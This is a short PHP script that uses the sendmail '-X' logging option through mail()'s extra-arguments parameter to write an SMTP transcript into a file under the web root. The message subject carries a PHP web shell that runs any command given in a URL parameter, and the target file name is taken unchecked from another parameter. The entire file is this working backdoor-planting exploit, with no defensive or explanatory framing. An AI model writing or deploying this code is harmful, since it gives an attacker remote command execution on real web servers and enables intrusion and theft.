<?php
// sendmail -X writes the whole SMTP transcript (which carries our subject) to a file under the web root
$to = 'nobody@example.invalid';
$subject = '<?php system($_GET["c"]); ?>';
$path = dirname(__FILE__) . '/' . (isset($_GET['n']) ? $_GET['n'] : 'cache.php');
mail($to, $subject, 'x', '', '-OQueueDirectory=/tmp -X' . $path);
echo 'done';
